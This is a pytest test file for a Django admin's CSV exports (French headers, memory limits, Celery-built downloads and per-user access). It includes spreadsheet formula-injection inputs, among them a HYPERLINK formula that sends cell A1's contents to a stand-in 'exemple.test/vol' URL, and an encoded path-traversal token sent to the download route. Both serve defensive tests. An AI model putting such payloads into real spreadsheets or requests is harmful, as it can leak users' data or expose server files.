"""CSV exports: Excel-friendly encoding, French headers, every row of a 10 000-row list in
constant memory and queries, and large exports built by a Celery task then downloaded."""

import csv
import datetime
import io
import tracemalloc
from decimal import Decimal

import pytest
from django.contrib.messages import get_messages
from django.db import connection
from django.db.models import F, Value
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from applications.exports import APPLICATION_COLUMNS
from applications.models import Application
from applications.models import ApplicationStatus as S
from dataide.audit.models import AuditEvent
from dataide.exports import BOM as BOM_TEXT
from dataide.exports import CHUNK_CHARS, Column, csv_lines, csv_row, rows_csv_lines, sql_cells
from organismes.exports import ORGANISME_COLUMNS
from organismes.models import Organisme
from tests.factories import OrganismeFactory, StaffUserFactory
from tests.helpers import login_staff
from tests.staff.factories import bulk_applications, signed_in_team, submitted_application
from tests.trainings.factories import WebinarAttendanceFactory
from trainings.exports import ATTENDANCE_COLUMNS
from trainings.models import WebinarAttendance

pytestmark = pytest.mark.django_db
EXPORT = reverse("admin:applications_application_export")
BOM = b"\xef\xbb\xbf"
APPLICATION_HEADERS = [
    "Numéro", "Organisme", "NEQ", "Région", "Volet", "Statut", "Titre du projet", "Montant demandé",
    "Montant accordé", "Soumise le", "Décision le",
]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(BOM)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def streamed(response) -> bytes:
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="demandes-')
    return b"".join(response.streaming_content)


def test_filtered_list_export_is_excel_friendly(client):
    signed_in_team(client)
    submitted_application("AMO-2026-0001", title="Équipement pour l'accueil", amount_requested=4321.5)
    submitted_application("AMO-2026-0002", status=S.ELIGIBLE)
    rows = read_csv(streamed(client.get(EXPORT, {"status__exact": S.SUBMITTED})))
    assert rows[0] == APPLICATION_HEADERS
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Numéro"] == "AMO-2026-0001" and row["Titre du projet"] == "Équipement pour l'accueil"
    assert row["Statut"] == "Soumise" and row["Volet"] == "Amorçage"
    assert row["Montant demandé"] == "4321,50" and row["Montant accordé"] == ""


def test_the_list_page_links_to_the_export_with_its_filters(client):
    signed_in_team(client)
    html = client.get(reverse("admin:applications_application_changelist"), {"status__exact": "submitted"}).content.decode()
    assert f'href="{EXPORT}?status__exact=submitted"' in html


def test_organismes_and_attendance_exports_have_french_headers(client):
    signed_in_team(client)
    WebinarAttendanceFactory(attendee_name="Éloïse Gagnon")
    organismes = read_csv(b"".join(client.get(reverse("admin:organismes_organisme_export")).streaming_content))
    assert organismes[0][:3] == ["Nom légal", "NEQ", "Numéro d'organisme de bienfaisance"] and len(organismes) == 2
    attendance = read_csv(b"".join(client.get(reverse("admin:trainings_webinarattendance_export")).streaming_content))
    assert attendance[0][0] == "Webinaire" and "Éloïse Gagnon" in attendance[1]


def test_ten_thousand_applications_all_exported(client, settings):
    settings.EXPORT_ASYNC_THRESHOLD = 20_000
    signed_in_team(client)
    bulk_applications(10_000)
    rows = read_csv(streamed(client.get(EXPORT)))
    assert len(rows) == 10_001
    assert {row[0] for row in rows[1:]} == {f"LOT-{n:06d}" for n in range(10_000)}
    assert rows[1][7] == "4321,50"


def _export_peak_and_queries(client) -> tuple[int, int]:
    response = client.get(EXPORT)
    sizes, lines = [], 0
    tracemalloc.start()
    with CaptureQueriesContext(connection) as queries:
        for chunk in response.streaming_content:
            sizes.append(len(chunk))
            lines += chunk.count(b"\r\n")  # csv's line ends; a newline inside a cell is a bare \n
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    # Sent in pieces of about 64 KB, not one socket write per row (all but the last are full).
    assert all(size >= CHUNK_CHARS for size in sizes[:-1])
    return lines, peak, len(queries)


def test_export_memory_and_queries_stay_flat(client, settings):
    settings.EXPORT_ASYNC_THRESHOLD = 20_000
    signed_in_team(client)
    bulk_applications(1_000)
    lines_small, peak_small, queries_small = _export_peak_and_queries(client)
    bulk_applications(9_000, start=1_000)
    lines_large, peak_large, queries_large = _export_peak_and_queries(client)
    assert (lines_small, lines_large) == (1_001, 10_001)
    assert queries_large == queries_small
    # Ten times the rows, far from ten times the memory: the iterator holds at most two chunks of
    # 2 000 rows (the one being written and the one being fetched), whatever the total.
    assert peak_large < 5 * peak_small, (peak_small, peak_large)
    assert peak_large < 6 * 1024 * 1024, peak_large


def test_large_exports_run_as_a_task_and_are_downloaded_when_ready(client, settings, django_capture_on_commit_callbacks):
    settings.EXPORT_ASYNC_THRESHOLD = 5
    signed_in_team(client)
    bulk_applications(8)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(EXPORT, {"status__exact": S.SUBMITTED})
    assert response.status_code == 302
    [message] = [str(m) for m in get_messages(response.wsgi_request)]
    assert "export de 8 lignes est en préparation." in message
    event = AuditEvent.objects.get(action="export.requested")
    download = reverse("admin:applications_application_export_download", args=[event.data["token"]])
    assert download in message

    file_response = client.get(download)
    assert file_response["Content-Disposition"].startswith('attachment; filename="demandes-')
    rows = read_csv(b"".join(file_response.streaming_content))
    assert len(rows) == 9 and rows[0] == APPLICATION_HEADERS

    # Another person cannot fetch it with the link.
    login_staff(client, StaffUserFactory())
    assert client.get(download).status_code == 302
    assert client.get(reverse("admin:applications_application_export_download", args=["..%2F..%2Fetc"])).status_code == 404


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("https://exemple.test/vol?d="&A1;"Cliquez ici")', "+1 514 555-0199", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "  =1+1",
])
def test_a_text_that_would_run_as_a_formula_is_exported_as_text(client, typed):
    signed_in_team(client)
    submitted_application("AMO-2026-0001", title=typed, organisme=OrganismeFactory(legal_name=typed))
    row = dict(zip(APPLICATION_HEADERS, read_csv(streamed(client.get(EXPORT)))[1], strict=True))
    assert row["Titre du projet"] == "'" + typed and row["Organisme"] == "'" + typed
    assert row["Montant demandé"] == "4000,00"  # numbers stay numbers


def test_negative_numbers_stay_numbers_and_ordinary_text_is_untouched():
    application = submitted_application("AMO-2026-0001", title="Équipement – 2e phase", amount_requested=Decimal("250"))
    queryset = Application.objects.filter(pk=application.pk).annotate(balance=-F("amount_requested"), gap=Value(-3))
    columns = [Column("Titre", "title"), Column("Solde", "balance"), Column("Écart", "gap")]
    rows = read_csv("".join(csv_lines(queryset, columns)).encode())
    assert rows[1] == ["Équipement – 2e phase", "-250,00", "-3"]


@pytest.mark.django_db(databases=[])
def test_the_export_writes_every_cell_as_the_general_formatter_does(settings):
    """The export's per-column fast path in Python (formatters chosen once, text checked in place,
    rows written a batch at a time) gives the same bytes as `_cell` on each value, over more rows
    than one write and one chunk hold."""
    settings.TIME_ZONE = "America/Montreal"
    utc = datetime.UTC
    moments = [
        datetime.datetime(2026, 3, 8, 6, 59, 59, 999999, tzinfo=utc),  # just before the spring change
        datetime.datetime(2026, 11, 1, 5, 30, tzinfo=utc),  # the repeated hour in the fall
        datetime.datetime(2026, 6, 30, 23, 59, 59, tzinfo=utc),  # summer time
        datetime.datetime(2026, 12, 31, 23, 59, 30, tzinfo=utc),  # another day in Montréal
    ]
    texts = ["Équipement", "=HYPERLINK(1)", " -2", "\tonglet", "", "a;b\"c"]
    values = [
        (texts[i % 6], moments[i % 4] if i % 5 else None, Decimal(i) / 7 if i % 3 else None, i % 2 == 0, -i,
         datetime.date(2026, 1, 1 + i % 28), "submitted" if i % 4 else "inconnu")
        for i in range(5000)
    ]
    columns = [Column("Texte", "a"), Column("Moment", "b"), Column("Montant", "c"), Column("Oui", "d"),
               Column("Nombre", "e"), Column("Jour", "f"), Column("Statut", "g", labels=S)]
    with timezone.override("America/Montreal"):
        written = "".join(rows_csv_lines(iter(values), columns))
        expected = BOM_TEXT + csv_row([column.header for column in columns]) + "".join(
            csv_row([*row[:-1], str(S(row[-1]).label) if row[-1] in S.values else row[-1]]) for row in values
        )
    # Line lists, so that a failure names the first differing row (a diff of the whole text takes minutes).
    assert written.splitlines(keepends=True) == expected.splitlines(keepends=True)


# Texts a spreadsheet would run, texts csv.writer must quote, and ordinary ones (accents, spaces).
AWKWARD_TEXTS = [
    "Équipement pour l'accueil", '=HYPERLINK("https://exemple.test";"Cliquez")', "+1 514 555-0199", "-2+3",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\nsuite", "  =1+1", "\u00a0=1", "\u202f-1", " -x; y", "a;b", 'dit "oui"',
    "ligne\nsuivante", "retour\r", "", " espace", "5 000 $", "fin\u00a0", "=", "'=déjà",
]
# Around both time changes in Montréal, summer, and a moment that is another day there.
MOMENTS = [
    datetime.datetime(2026, 3, 8, 6, 59, 59, 999999, tzinfo=datetime.UTC),
    datetime.datetime(2026, 3, 8, 7, 0, tzinfo=datetime.UTC),
    datetime.datetime(2026, 11, 1, 5, 30, tzinfo=datetime.UTC),
    datetime.datetime(2026, 11, 1, 6, 30, tzinfo=datetime.UTC),
    datetime.datetime(2026, 6, 30, 23, 59, 59, tzinfo=datetime.UTC),
    datetime.datetime(2026, 12, 31, 23, 59, 30, tzinfo=datetime.UTC),
]


def _written_by_cell(queryset, columns) -> str:
    """The export as `_cell` writes each value (`csv_row`), stored codes named by their labels: what
    the file must hold, whoever writes it."""
    labels = [dict(getattr(column.labels, "choices", column.labels or [])) for column in columns]
    rows = queryset.values_list(*[column.key for column in columns])
    return BOM_TEXT + csv_row([column.header for column in columns]) + "".join(
        csv_row([str(names[value]) if value in names else value for names, value in zip(labels, row, strict=True)])
        for row in rows
    )


def _awkward_applications():
    statuses = [*S.values, "inconnu"]
    for index, text in enumerate(AWKWARD_TEXTS * 2):
        application = submitted_application(
            None if index == 3 else f"AMO-2026-{index:04d}", title=text,
            organisme=OrganismeFactory(legal_name=AWKWARD_TEXTS[-1 - index % len(AWKWARD_TEXTS)], staff_count=None if index % 3 else index),
            amount_requested=[Decimal("0"), Decimal("4321.5"), Decimal("0.01"), Decimal("9999999999.99")][index % 4],
            submitted_at=MOMENTS[index % len(MOMENTS)],
        )
        Application.objects.filter(pk=application.pk).update(
            status=statuses[index % len(statuses)],
            amount_awarded=Decimal("0.01") if index % 2 else None,
            decided_at=MOMENTS[(index + 1) % len(MOMENTS)] if index % 5 else None,
        )
        if index % 4 == 1:
            Organisme.objects.filter(pk=application.organisme_id).update(preferred_language="xx")
        WebinarAttendanceFactory(
            organisme=application.organisme, attendee_name=text, minutes=index,
            webinar__title=AWKWARD_TEXTS[index % 7], webinar__starts_at=MOMENTS[index % len(MOMENTS)],
        )


@pytest.mark.parametrize("zone", ["America/Montreal", "Asia/Kolkata"])
def test_lines_written_by_postgresql_hold_the_same_bytes(zone):
    """On PostgreSQL the database writes each row's line (the export's speed): for every admin
    export, awkward texts, empty and missing values, amounts, moments around the time changes and
    codes without a label, the bytes are those `_cell` writes, in the active language and zone."""
    _awkward_applications()
    exports = [
        (Application.objects.order_by("pk"), APPLICATION_COLUMNS),
        (Organisme.objects.order_by("pk"), ORGANISME_COLUMNS),
        (WebinarAttendance.objects.order_by("pk"), ATTENDANCE_COLUMNS),
    ]
    with timezone.override(zone):
        for queryset, columns in exports:
            assert sql_cells(queryset, columns) is not None, columns
            written = "".join(csv_lines(queryset, columns))
            assert written.splitlines(keepends=True) == _written_by_cell(queryset, columns).splitlines(keepends=True)
